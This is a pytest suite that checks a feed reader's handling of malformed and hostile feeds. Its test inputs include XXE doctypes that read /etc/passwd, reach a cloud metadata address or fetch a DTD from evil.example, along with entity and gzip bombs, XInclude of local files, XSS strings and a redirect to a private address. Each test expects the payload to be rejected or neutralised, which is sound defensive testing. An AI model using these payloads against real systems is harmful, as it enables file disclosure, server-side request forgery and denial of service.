"""What is broken or meant badly has a defined result."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pytest

from sejuk.sources.errors import Code, SourceError

from ..site import Page, Site
from .conftest import Visit
from .samples import ATOM, JSON_FEED, NOW, rss, rss_item


def code_of(visit: Visit, body: bytes, **arguments: object) -> Code:
    with pytest.raises(SourceError) as caught:
        visit(body, **arguments)
    return caught.value.code


@pytest.mark.parametrize(
    ("encoded", "charset"),
    [
        ("Séjuk — “damai”".encode(), None),
        ("Séjuk — “damai”".encode(), "iso-8859-1"),
        ("Séjuk — “damai”".encode("cp1252"), None),
        ("Séjuk — “damai”".encode("cp1252"), "windows-1252"),
        ("Séjuk — “damai”".encode("cp1252"), "utf-7"),
        ("Séjuk — “damai”".encode("cp1252"), "no-such-charset"),
    ],
)
def test_a_wrong_encoding_is_seen_through(visit: Visit, encoded: bytes, charset: str | None) -> None:
    body = rss([rss_item(1, title="JUDUL")]).replace(b"JUDUL", encoded)
    headers = {"Content-Type": f"text/xml; charset={charset}"} if charset else {}
    assert visit(body, headers=headers).items[0].title == "Séjuk — “damai”"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"])
def test_wide_encodings_are_read(visit: Visit, encoding: str) -> None:
    text = rss([rss_item(1, title="Séjuk")]).decode().replace("UTF-8", encoding)
    assert visit(text.encode(encoding)).items[0].title == "Séjuk"


def test_a_declared_encoding_is_believed_where_utf8_fails(visit: Visit) -> None:
    body = (
        rss([rss_item(1, title="JUDUL")])
        .replace(b"UTF-8", b"KOI8-R")
        .replace(b"JUDUL", "мир".encode("koi8-r"))
    )
    assert visit(body).items[0].title == "мир"


def test_of_a_truncated_feed_the_whole_items_are_taken(visit: Visit) -> None:
    body = rss([rss_item(n) for n in range(5)])
    fetched = visit(body[: body.index(b"nomor 4")])
    assert [item.title for item in fetched.items] == [f"Kabar {n}" for n in range(4)]
    assert fetched.notes == ["repaired"]


def test_a_feed_that_breaks_before_its_first_item_is_broken(visit: Visit) -> None:
    body = rss([rss_item(1)])
    assert code_of(visit, body[: body.index(b"<item>")]) is Code.FEED_BROKEN


def test_a_stray_ampersand_and_html_entities_do_not_matter(visit: Visit) -> None:
    body = rss([rss_item(1)]).replace(b"Kabar 1<", b"Padi & jagung&nbsp;&mdash; &unknown; baik<")
    assert visit(body).items[0].title.startswith("Padi")


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE rss [<!ENTITY x SYSTEM "http://169.254.169.254/">]>',
        b'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
        b'<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE rss\n[\n<!ELEMENT rss ANY>\n<!ENTITY x "]">\n]>',
        b'<!--x--><!doctype rss [<!entity x "y">]>',
    ],
)
def test_entities_of_a_feed_are_neither_expanded_nor_fetched(
    visit: Visit, site: Site, doctype: bytes
) -> None:
    body = rss([rss_item(1, title="JUDUL")]).replace(b"<rss", doctype + b"<rss").replace(b"JUDUL", b"&x;")
    assert code_of(visit, body) is Code.UNSAFE_DOCUMENT
    assert site.paths() == ["/feed"]


def test_a_doctype_elsewhere_expands_nothing(visit: Visit, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("rahasia")
    doctype = f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'.encode()
    body = rss([rss_item(1, title="JUDUL")]).replace(b"JUDUL", doctype + b"&x;")
    try:
        items = visit(body).items
    except SourceError:
        items = []
    assert "rahasia" not in str(items)


def test_xinclude_is_not_followed(visit: Visit, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("rahasia")
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>'
    )
    items = visit(rss([rss_item(1, extra=f"<description>{include}</description>")])).items
    assert "rahasia" not in "".join(item.text for item in items)


def test_a_gzip_bomb_is_too_large(visit: Visit) -> None:
    bomb = gzip.compress(rss([rss_item(1)]) + b" " * 30_000_000)
    assert code_of(visit, bomb, headers={"Content-Encoding": "gzip"}) is Code.TOO_LARGE


def test_items_without_a_date_get_the_time_of_fetching(visit: Visit) -> None:
    fetched = visit(rss([rss_item(1, date="kapan-kapan"), rss_item(2)]))
    assert fetched.items[-1].published_at == NOW
    assert fetched.notes == ["undated:1"]


def test_items_of_the_future_are_brought_back(visit: Visit) -> None:
    fetched = visit(rss([rss_item(1, date="Thu, 01 Jan 2099 00:00:00 GMT"), rss_item(2)]))
    assert fetched.items[-1].published_at == NOW
    assert fetched.notes == ["future:1"]


def test_a_clock_a_little_fast_is_not_worth_a_word(visit: Visit) -> None:
    fetched = visit(rss([rss_item(1, date="Sun, 14 Feb 2027 12:03:00 GMT")]))
    assert fetched.items[0].published_at == NOW
    assert fetched.notes == []


def test_one_identifier_twice_is_one_item(visit: Visit) -> None:
    fetched = visit(rss([rss_item(1), rss_item(1), rss_item(2)]))
    assert len(fetched.items) == 2
    assert fetched.notes == ["duplicates:1"]


def test_an_identifier_that_all_items_share_identifies_nothing(visit: Visit) -> None:
    items = [rss_item(n).replace(f"kabar-{n}", "https://kabar.example/") for n in range(3)]
    assert len(visit(rss(items)).items) == 3


@pytest.mark.parametrize(
    ("written", "title"),
    [
        ("<script>alert(1)</script>Judul", "Judul"),
        ("<img src=x onerror=alert(1)>Judul", "Judul"),
        ("\u202eluduJ\u202c judul", "luduJ judul"),
        ("Ju\u200bdul", "Judul"),
        ("<![CDATA[<b>Judul</b>]]>", "Judul"),
        ("Judul\x00\x08", "Judul"),
    ],
)
def test_titles_are_plain(visit: Visit, written: str, title: str) -> None:
    body = rss([rss_item(1, title=written)])
    if written.startswith("<!["):
        body = body.replace(b"&lt;![CDATA[&lt;b&gt;Judul&lt;/b&gt;]]&gt;", written.encode())
    assert visit(body).items[0].title == title


def test_addresses_that_are_not_of_the_web_are_dropped(visit: Visit) -> None:
    for link in (
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "http://[x/",
        "ftp://a.example/b",
    ):
        item = f"<item><title>Judul</title><link>{link}</link><guid isPermaLink='false'>1</guid></item>"
        assert visit(rss([item])).items[0].url is None


def test_ten_thousand_items_become_the_two_thousand_newest(visit: Visit) -> None:
    dates = [f"2026-{1 + n // 1000:02d}-{1 + n // 40 % 25:02d}T{n % 24:02d}:00:00Z" for n in range(10_000)]
    fetched = visit(rss([rss_item(n, date=date) for n, date in enumerate(dates)]))
    assert len(fetched.items) == 2000
    assert fetched.notes == ["too_many:8000"]
    assert min(item.published_at.isoformat() for item in fetched.items if item.published_at) >= "2026-09"
    assert len(json.dumps(fetched.cursor)) < 100_000


def test_a_text_without_end_is_cut(visit: Visit) -> None:
    body = rss([rss_item(1)]).replace(b"Isi kabar", b"kata " * 500_000)
    assert len(visit(body).items[0].text) <= 10_000


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"bukan umpan",
        b"%PDF-1.7 ...",
        b"\x89PNG\r\n\x1a\n" + bytes(100),
        b"<?xml version='1.0'?><opml><body/></opml>",
        b"<urlset><url/></urlset>",
        b"[]",
        b"{}",
        b'{"items": 3}',
        b"\0" * 100,
    ],
)
def test_what_is_not_a_feed_says_so(visit: Visit, body: bytes) -> None:
    assert code_of(visit, body) is Code.NOT_A_FEED


@pytest.mark.parametrize("body", [b"{", b'{"items": [', b"[" * 100_000])
def test_broken_json_is_a_broken_feed(visit: Visit, body: bytes) -> None:
    assert code_of(visit, body) is Code.FEED_BROKEN


def test_json_of_the_wrong_types_gives_what_can_be_read(visit: Visit) -> None:
    strange = {
        "language": ["id"],
        "items": [
            {
                "id": {"a": 1},
                "title": ["x"],
                "content_text": "Isi.",
                "authors": {"name": 1},
                "date_published": 5,
            },
            {"id": True, "content_text": 7, "author": "x", "url": {}, "authors": [["x"]]},
            {"id": "3", "content_html": None},
        ],
    }
    assert [item.text for item in visit(json.dumps(strange).encode()).items] == ["Isi.", "7"]


def test_a_login_page_in_place_of_a_feed_says_so(visit: Visit) -> None:
    cursor = visit(ATOM).cursor
    login = b"<!doctype html><html><form><input name=p type='password'></form></html>"
    assert code_of(visit, login, cursor=cursor) is Code.LOGIN_REQUIRED


def test_a_redirect_inside_is_refused(visit: Visit, site: Site) -> None:
    site.pages["/feed"] = Page(status=302, headers={"Location": "http://10.0.0.1/feed"})
    with pytest.raises(SourceError) as caught:
        visit()
    assert caught.value.code is Code.PRIVATE_ADDRESS


def test_errors_carry_the_host_and_nothing_of_the_address(visit: Visit, site: Site) -> None:
    with pytest.raises(SourceError) as caught:
        visit(path="/@seseorang/umpan?token=rahasia")
    assert caught.value.code is Code.NOT_FOUND
    assert "seseorang" not in repr(caught.value) + str(caught.value)


def test_a_feed_with_the_type_of_a_page_is_still_a_feed(visit: Visit) -> None:
    assert visit(ATOM, headers={"Content-Type": "text/html"}).items
    assert visit(JSON_FEED, headers={"Content-Type": "text/plain"}).items
